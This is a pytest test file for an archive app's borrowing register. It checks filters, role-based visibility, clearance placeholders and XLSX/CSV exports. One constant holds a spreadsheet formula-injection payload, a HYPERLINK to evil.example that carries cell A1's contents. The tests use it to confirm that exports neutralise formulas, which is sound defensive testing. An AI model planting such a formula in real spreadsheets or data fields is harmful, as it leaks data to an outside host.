"""The 查阅登记表 (borrowing register): rows, filters, who sees what, XLSX/CSV exports, record history.

Loans are made through the services with injected times (as in test_borrowing.py) so every time
in the register is known; the pages and exports are then read over HTTP.
"""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, select

from archive_app import exports, policy
from archive_app.accounts.models import Department, User
from archive_app.audit.models import AuditEntry
from archive_app.borrowing import loans as L
from archive_app.borrowing import register as REG
from archive_app.borrowing.loans import LoanSettings
from archive_app.errors import DomainError
from archive_app.extensions import db

from .helpers import login, make_pdf, new_customer, upload

SETTINGS = LoanSettings(timezone="Asia/Shanghai", max_days=7, decision_hours=48)
TZ = "Asia/Shanghai"
# 2026-11-25 00:30 in Shanghai, still 11-24 in UTC: the date filter must use the local day.
T1 = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)
# 2026-11-26 10:00 in Shanghai.
T2 = datetime(2026, 11, 26, 2, 0, tzinfo=UTC)
# 2026-11-15 10:00 in Shanghai.
T3 = datetime(2026, 11, 15, 2, 0, tzinfo=UTC)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _users(*names: str) -> list[User]:
    return [db.session.scalar(select(User).where(User.username == n)) for n in names]


def _scenario(app, client) -> dict:
    """Two customers in two departments, three requests with approvals and one paper loan.

    req1: staff (销售一部) views 张三's contract at T1, the head approves 5 minutes later.
    req2: staff borrows the paper original at T2: head, general manager, hand-out of 3 pages,
          return of 2 pages with a note.
    req3: staff_other (销售二部) asks to download 李四's contract at T3, with a formula as purpose;
          pending (their department has no head in the fixture).
    """
    login(client, "archivist")
    c1 = new_customer(client, name="张三", department="销售一部")
    r1 = upload(client, c1["id"], [(make_pdf(marker="r1"), "a.pdf")]).json
    c2 = new_customer(client, name="李四", department="销售二部")
    r2 = upload(client, c2["id"], [(make_pdf(marker="r2"), "b.pdf")]).json
    client.post("/logout")
    with app.app_context():
        s = db.session
        staff, staff_other, head, gm, archivist = _users("staff", "staff_other", "head", "gm", "archivist")
        req1 = L.create_request(s, staff, kind="view", purpose="核对合同", settings=SETTINGS, now=T1,
                                record_ids=[r1["id"]])
        L.approve(s, head, req1.id, settings=SETTINGS, now=T1 + timedelta(minutes=5))
        req2 = L.create_request(s, staff, kind="original", purpose="客户签字", settings=SETTINGS, now=T2,
                                record_ids=[r1["id"]])
        L.approve(s, head, req2.id, settings=SETTINGS, now=T2 + timedelta(minutes=10))
        L.approve(s, gm, req2.id, settings=SETTINGS, now=T2 + timedelta(minutes=20))
        L.hand_out(s, archivist, req2.id, r1["id"], pages=3, now=T2 + timedelta(hours=1))
        L.return_paper(s, archivist, r1["id"], pages_back=2, condition_note="缺第3页",
                       now=T2 + timedelta(hours=2))
        req3 = L.create_request(s, staff_other, kind="download", purpose=INJECTION, settings=SETTINGS, now=T3,
                                record_ids=[r2["id"]])
        s.commit()
        depts = {d.name: d.id for d in s.scalars(select(Department))}
        return {"c1": c1, "c2": c2, "r1": r1, "r2": r2, "depts": depts,
                "req1": req1.request_no, "req2": req2.request_no, "req3": req3.request_no}


def _page(username: str, f: REG.RegisterFilter | None = None, **kw) -> REG.RegisterPage:
    viewer, = _users(username)
    return REG.register_page(db.session, viewer, f or REG.RegisterFilter(), tz=TZ, **kw)


def _nos(page: REG.RegisterPage) -> list[str]:
    return [r.request_no for r in page.rows]


# ---------------------------------------------------------------------------------------------- rows and filters


def test_rows_carry_records_approvers_times_and_paper(app, client, users):
    sc = _scenario(app, client)
    with app.app_context():
        page = _page("archivist")
        assert page.total == 3
        assert _nos(page) == [sc["req2"], sc["req1"], sc["req3"]]  # newest request first
        req2, req1, req3 = page.rows
        assert req1.archival_code == req2.archival_code == sc["r1"]["archival_code"]
        assert req3.archival_code == sc["r2"]["archival_code"]
        assert (req1.requester, req1.department, req1.customer_name) == ("staff", "销售一部", "张三")
        assert req1.customer_no == sc["c1"]["customer_no"] and req1.record_type == "购房合同"
        assert (req1.kind_label, req1.status_label) == ("查阅", "已批准")
        assert req1.created_at == T1
        assert (req1.head.approver, req1.head.at, req1.head.label) == ("head", T1 + timedelta(minutes=5), "同意")
        assert req1.gm is None and req1.gm_label == "无需总经理审批"
        # the paper original: head, then the general manager, out and back with the missing page noted
        assert req2.kind_label == "借出原件" and req2.status_label == "已结束"
        assert req2.head.at == T2 + timedelta(minutes=10)
        assert (req2.gm.approver, req2.gm.at) == ("gm", T2 + timedelta(minutes=20))
        paper, = req2.paper
        assert (paper.out_at, paper.handed_out_by, paper.received_by, paper.pages_out) == (
            T2 + timedelta(hours=1), "archivist", "staff", 3)
        assert (paper.returned_at, paper.returned_to, paper.pages_back, paper.condition_note) == (
            T2 + timedelta(hours=2), "archivist", 2, "缺第3页")
        assert req3.status_label == "待部门负责人审批" and req3.head is None and req3.gm_label == ""
        assert req3.purpose == INJECTION  # stored as typed; neutralised only in exports
        assert req1.to_dict()["head_approval"] == {"approver": "head", "at": "2026-11-24T16:35:00+00:00",
                                                   "decision": "approve", "decision_label": "同意", "reason": ""}


def test_filters_date_person_department_customer_record(app, client, users):
    sc = _scenario(app, client)
    with app.app_context():
        F = REG.RegisterFilter
        day = lambda s: datetime.fromisoformat(s).date()  # noqa: E731
        # T1 is 11-24 in UTC but 11-25 in Shanghai: it belongs to the local day
        assert _nos(_page("admin", F(date_from=day("2026-11-25"), date_to=day("2026-11-25")))) == [sc["req1"]]
        assert _nos(_page("admin", F(date_to=day("2026-11-24")))) == [sc["req3"]]
        assert _nos(_page("admin", F(date_from=day("2026-11-25")))) == [sc["req2"], sc["req1"]]
        assert _nos(_page("admin", F(requester="staff_other"))) == [sc["req3"]]
        assert _nos(_page("admin", F(department_id=sc["depts"]["销售一部"]))) == [sc["req2"], sc["req1"]]
        assert _nos(_page("admin", F(customer="李四"))) == [sc["req3"]]
        assert _nos(_page("admin", F(customer=sc["c1"]["customer_no"]))) == [sc["req2"], sc["req1"]]
        assert _nos(_page("admin", F(record_id=sc["r2"]["id"]))) == [sc["req3"]]
        assert _nos(_page("admin", F(customer="%"))) == []  # LIKE wildcards are matched literally
        # paging
        first, second = _page("admin", per_page=2), _page("admin", page=2, per_page=2)
        assert (first.pages, _nos(first), _nos(second)) == (2, [sc["req2"], sc["req1"]], [sc["req3"]])
        # parsing: the web form and the API share it
        parsed = REG.parse_filter({"date_from": "2026-11-25", "requester": " staff ", "department_id": ""})
        assert parsed == F(date_from=day("2026-11-25"), requester="staff")
        for bad, code in [({"date_from": "25/11/2026"}, "invalid_date"),
                          ({"date_from": "2026-11-26", "date_to": "2026-11-25"}, "invalid_date_range"),
                          ({"department_id": "x"}, "invalid_number")]:
            with pytest.raises(DomainError) as exc:
                REG.parse_filter(bad)
            assert exc.value.code == code


def test_who_sees_which_lines(app, client, users):
    sc = _scenario(app, client)
    with app.app_context():
        everything = [sc["req2"], sc["req1"], sc["req3"]]
        for name in ("archivist", "reviewer", "admin", "auditor", "gm"):
            assert _nos(_page(name)) == everything, name
        assert _nos(_page("staff")) == [sc["req2"], sc["req1"]]  # their own
        assert _nos(_page("staff_other")) == [sc["req3"]]
        assert _nos(_page("staff_secret")) == []  # same department, not their requests
        assert _nos(_page("head")) == [sc["req2"], sc["req1"]]  # their department
        # a filter never widens the scope
        other_dept = REG.RegisterFilter(department_id=sc["depts"]["销售二部"])
        assert _nos(_page("head", other_dept)) == [] and _nos(_page("staff", other_dept)) == []
        assert [d.name for d in REG.departments(db.session, _users("head")[0])] == ["销售一部"]
        assert REG.departments(db.session, _users("staff")[0]) == []
        assert REG.register_scope(None).kind == "none"
        with pytest.raises(DomainError):
            REG.register_page(db.session, None, REG.RegisterFilter(), tz=TZ)


def test_records_above_the_viewers_clearance_are_named_by_a_placeholder(app, client, users):
    login(client, "archivist")
    c = new_customer(client, department="销售一部")
    secret = upload(client, c["id"], [(make_pdf(marker="s"), "s.pdf")], secrecy=2, title="保密协议").json
    client.post("/logout")
    with app.app_context():
        staff_secret, head = _users("staff_secret", "head")
        L.create_request(db.session, staff_secret, kind="view", purpose="查", settings=SETTINGS, now=T1,
                         record_ids=[secret["id"]])
        head.clearance = 1  # 内部 only: the 秘密 record's line stays, its 档号 and title do not
        db.session.commit()
        row, = _page("head").rows
        assert (row.archival_code, row.title, row.visible) == (policy.HIDDEN_RECORD, policy.HIDDEN_RECORD, False)
        assert row.to_dict()["record"] == {"id": secret["id"], "visible": False, "archival_code": None,
                                           "title": None, "record_type": None}
        assert row.request_no and row.customer_name == "王小明"  # the line itself is complete
        assert secret["archival_code"] not in "".join(str(c) for c in row.cells(TZ))
        seen = _page("archivist").rows[0]
        assert (seen.archival_code, seen.title) == (secret["archival_code"], "保密协议")


def test_queries_do_not_grow_with_rows_and_export_chunks_agree(app, client, users):
    sc = _scenario(app, client)
    with app.app_context():
        viewer, = _users("admin")
        selects: list[str] = []

        def listener(conn, cursor, statement, *args):
            if statement.lstrip().upper().startswith("SELECT"):
                selects.append(statement)

        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            page = REG.register_page(db.session, viewer, REG.RegisterFilter(), tz=TZ)
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        # count, lines, approvals, paper movements: four queries whether the page has 3 lines or 200
        assert len(page.rows) == 3 and len(selects) == 4, selects
        # keyset chunks of one line give the same lines in the same order as the page
        chunked = [r.request_no for r in REG.iter_register(db.session, viewer, REG.RegisterFilter(), tz=TZ, chunk=1)]
        assert chunked == _nos(page) == [sc["req2"], sc["req1"], sc["req3"]]


# ---------------------------------------------------------------------------------------------- exports


def test_xlsx_export_has_chinese_headers_rows_and_an_audit_entry(app, client, users):
    sc = _scenario(app, client)
    login(client, "archivist")
    resp = client.get("/loans/register.xlsx")
    assert resp.status_code == 200 and resp.mimetype == exports.XLSX_MIMETYPE
    disposition = resp.headers["Content-Disposition"]
    assert "filename*=UTF-8''" + quote("查阅登记表-") in disposition and disposition.endswith(".xlsx")
    assert 'filename="loan-register-' in disposition and resp.headers["Cache-Control"] == "no-store"
    ws = load_workbook(io.BytesIO(resp.data)).active
    assert ws.title == "查阅登记表" and ws.freeze_panes == "A3"
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0].startswith("查阅登记表") and "archivist" in rows[0][0]
    assert list(rows[1]) == REG.HEADERS and ws["A2"].font.b
    data = [dict(zip(REG.HEADERS, r)) for r in rows[2:]]
    assert [d["借阅单号"] for d in data] == [sc["req2"], sc["req1"], sc["req3"]]
    req2, req1, req3 = data
    assert req1["档号"] == sc["r1"]["archival_code"] and req1["客户"] == "张三" and req1["方式"] == "查阅"
    # local time, as a real datetime without a zone
    assert req1["申请时间"] == datetime(2026, 11, 25, 0, 30)
    assert (req1["部门负责人"], req1["部门负责人审批时间"], req1["部门负责人意见"]) == (
        "head", datetime(2026, 11, 25, 0, 35), "同意")
    assert (req2["总经理"], req2["借出页数"], req2["归还页数"], req2["归还情况"]) == ("gm", 3, 2, "缺第3页")
    assert req2["原件借出时间"] == datetime(2026, 11, 26, 11, 0) and req2["归还接收人"] == "archivist"
    # the formula is kept as text, never as a formula
    purpose_cell = ws.cell(row=5, column=REG.HEADERS.index("用途") + 1)
    assert purpose_cell.value == INJECTION and purpose_cell.data_type == "s"
    with app.app_context():
        entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "loan_register.export")).one()
        assert entry.actor_name == "archivist" and '"format":"xlsx"' in entry.details and '"rows":3' in entry.details


def test_csv_export_has_bom_parses_back_and_neutralises_formulas(app, client, users):
    sc = _scenario(app, client)
    login(client, "head")
    resp = client.get("/api/v1/loan-register.csv?customer=张三")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.data.startswith(b"\xef\xbb\xbf") and b"\r\n" in resp.data
    assert quote("查阅登记表-") in resp.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))
    assert rows[0] == REG.HEADERS
    assert [r[0] for r in rows[1:]] == [sc["req2"], sc["req1"]]
    assert rows[2][REG.HEADERS.index("申请时间")] == "2026-11-25 00:30"
    client.post("/logout")
    login(client, "admin")
    rows = list(csv.reader(io.StringIO(client.get("/loans/register.csv?customer=李四").data.decode("utf-8-sig"),
                                       newline="")))
    assert rows[1][REG.HEADERS.index("用途")] == "'" + INJECTION
    with app.app_context():
        entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "loan_register.export")
                                     .order_by(AuditEntry.seq)).all()
        assert [e.actor_name for e in entries] == ["head", "admin"]
        assert '"customer":"张三"' in entries[0].details and '"scope":"department"' in entries[0].details
    # an unknown format or a bad filter is refused and not audited
    assert client.get("/loans/register.pdf").status_code == 404
    bad = client.get("/api/v1/loan-register.csv?date_from=x")
    assert bad.status_code == 400 and bad.json["error"]["code"] == "invalid_date"


def test_export_helpers_quote_and_guard_cells():
    data = exports.table_to_csv(["名称", "数"], [["a,b", -3], ['say "hi"', 1.5], ["@SUM(A1)", None],
                                                ["+1", True], ["-x", 0], ["多行\n文本", 2]])
    text = data.decode("utf-8")
    assert text.startswith("\ufeff名称,数\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[1:] == [["a,b", "-3"], ['say "hi"', "1.5"], ["'@SUM(A1)", ""], ["'+1", "是"], ["'-x", "0"],
                        ["多行\n文本", "2"]]
    when = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)
    assert exports.table_to_csv(["t"], [[when]], tz=TZ).decode("utf-8-sig") == "t\r\n2026-11-25 00:30\r\n"
    book = exports.table_to_xlsx(["名称", "时间"], iter([["=1+1", when], ["a\x01b", None]]), "表/1", tz=TZ)
    ws = load_workbook(io.BytesIO(book)).active
    assert ws.title == "表_1" and ws.freeze_panes == "A2" and ws["A1"].font.b
    assert (ws["A2"].value, ws["A2"].data_type, ws["B2"].value) == ("=1+1", "s", datetime(2026, 11, 25, 0, 30))
    assert ws["A3"].value == "ab"  # control characters XML cannot hold are dropped
    assert ws.column_dimensions["B"].width >= 16
    assert exports.content_disposition("查阅登记表-2026-11-25.csv", "loan-register-2026-11-25.csv") == (
        "attachment; filename=\"loan-register-2026-11-25.csv\"; "
        "filename*=UTF-8''%E6%9F%A5%E9%98%85%E7%99%BB%E8%AE%B0%E8%A1%A8-2026-11-25.csv")


# ---------------------------------------------------------------------------------------------- pages and API


def test_register_page_filters_and_export_links(app, client, users):
    sc = _scenario(app, client)
    login(client, "auditor")
    page = client.get("/loans/register?customer=张三&date_from=2026-11-25")
    assert page.status_code == 200
    html = page.text
    assert "查阅登记表" in html and sc["req1"] in html and sc["req2"] in html and sc["req3"] not in html
    assert "缺第3页" in html and "2026-11-25 00:35" in html
    # the export buttons keep the filters
    assert "/loans/register.xlsx?" in html and "/loans/register.csv?" in html
    assert "date_from=2026-11-25" in html and "customer=%E5%BC%A0%E4%B8%89" in html
    # printed on its own terms: the page is marked, app.css holds its print rules (no inline style)
    assert 'class="wide-page register-page"' in html
    with client.get("/static/app.css") as css:
        assert "@media print" in css.text and ".register-page header.top" in css.text
    bad = client.get("/loans/register?date_from=2026-13-01")
    assert bad.status_code == 400 and "起始日期格式不正确" in bad.text
    client.post("/logout")
    login(client, "staff_other")
    html = client.get("/loans/register").text
    assert sc["req3"] in html and sc["req1"] not in html and 'name="requester"' not in html
    assert 'href="/loans/register"' in html  # the nav link


def test_api_register_json(app, client, users):
    sc = _scenario(app, client)
    login(client, "gm")
    body = client.get("/api/v1/loan-register?per_page=2").json
    assert (body["total"], body["pages"], body["per_page"]) == (3, 2, 2)
    assert [i["request_no"] for i in body["items"]] == [sc["req2"], sc["req1"]]
    item = body["items"][0]
    assert item["record"]["archival_code"] == sc["r1"]["archival_code"]
    assert item["gm_approval"]["approver"] == "gm" and item["paper"][0]["pages_back"] == 2
    assert client.get("/api/v1/loan-register?requester=staff_other").json["items"][0]["request_no"] == sc["req3"]
    assert client.get("/api/v1/loan-register?per_page=x").status_code == 400
    client.post("/logout")
    login(client, "staff")
    assert client.get("/api/v1/loan-register").json["total"] == 2


def test_record_page_shows_its_borrowing_history(app, client, users):
    sc = _scenario(app, client)
    login(client, "head")
    html = client.get(f"/records/{sc['r1']['id']}").text
    assert "借阅记录" in html and sc["req1"] in html and sc["req2"] in html
    assert "2026-11-25 00:35" in html and "gm · 2026-11-26 10:20" in html
    assert "缺第3页" in html and "借出原件" in html
    client.post("/logout")
    login(client, "archivist")
    html = client.get(f"/records/{sc['r2']['id']}").text
    assert sc["req3"] in html and sc["req1"] not in html and "待部门负责人审批" in html
    client.post("/logout")
    # a colleague of the same department sees the record but none of staff's requests
    login(client, "staff_secret")
    html = client.get(f"/records/{sc['r1']['id']}").text
    assert "借阅记录" in html and sc["req1"] not in html and "暂无借阅记录" in html


def test_the_filter_line_names_no_record_the_viewer_may_not_see(app, client, users):
    """``record_id`` in the filter prints a 档号 only for a record the viewer may see: another
    department's record reads exactly like a missing id, on the page and in the XLSX title."""
    sc = _scenario(app, client)
    foreign, own = sc["r2"], sc["r1"]  # 李四's record is 销售二部's; staff is in 销售一部
    login(client, "staff")
    hidden = client.get(f"/loans/register?record_id={foreign['id']}").text
    missing = client.get("/loans/register?record_id=999999").text
    assert foreign["archival_code"] not in hidden and f"档案编号 {foreign['id']}" in hidden
    assert "档案编号 999999" in missing
    book = load_workbook(io.BytesIO(client.get(f"/loans/register.xlsx?record_id={foreign['id']}").data))
    title = book.active["A1"].value
    assert foreign["archival_code"] not in title and f"档案编号 {foreign['id']}" in title
    # a record the viewer sees is named by its 档号
    assert f"档号 {own['archival_code']}" in client.get(f"/loans/register?record_id={own['id']}").text
    with app.app_context():
        staff, = _users("staff")
        assert REG.describe_filter(db.session, staff, REG.RegisterFilter(record_id=foreign["id"])) == \
            f"档案编号 {foreign['id']}"


def test_anonymous_is_sent_to_login(app, client, users):
    for path in ("/loans/register", "/loans/register.xlsx", "/loans/register.csv"):
        resp = client.get(path)
        assert resp.status_code == 302 and "/login" in resp.location, path
    for path in ("/api/v1/loan-register", "/api/v1/loan-register.xlsx", "/api/v1/loan-register.csv"):
        resp = client.get(path)
        assert resp.status_code == 401 and resp.json["error"]["code"] == "unauthorized", path
